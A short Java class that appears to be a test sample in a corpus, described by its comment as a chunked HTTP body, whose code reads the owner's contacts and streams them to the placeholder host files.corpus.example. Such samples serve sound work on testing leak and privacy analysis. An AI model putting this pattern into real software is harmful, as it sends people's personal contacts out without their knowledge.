package org.corpus;

import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** A body in chunks of seven bytes. */
public class HttpChunked extends Screen {
    @Override
    protected void act() throws Exception {
        HttpURLConnection connection =
                (HttpURLConnection) new URL("http://files.corpus.example/stream").openConnection();
        connection.setDoOutput(true);
        connection.setChunkedStreamingMode(7);
        try (OutputStream out = connection.getOutputStream()) {
            for (String one : Owner.contacts(this)) {
                out.write(Net.utf8(one + "\n"));
            }
        }
        connection.getResponseCode();
    }
}
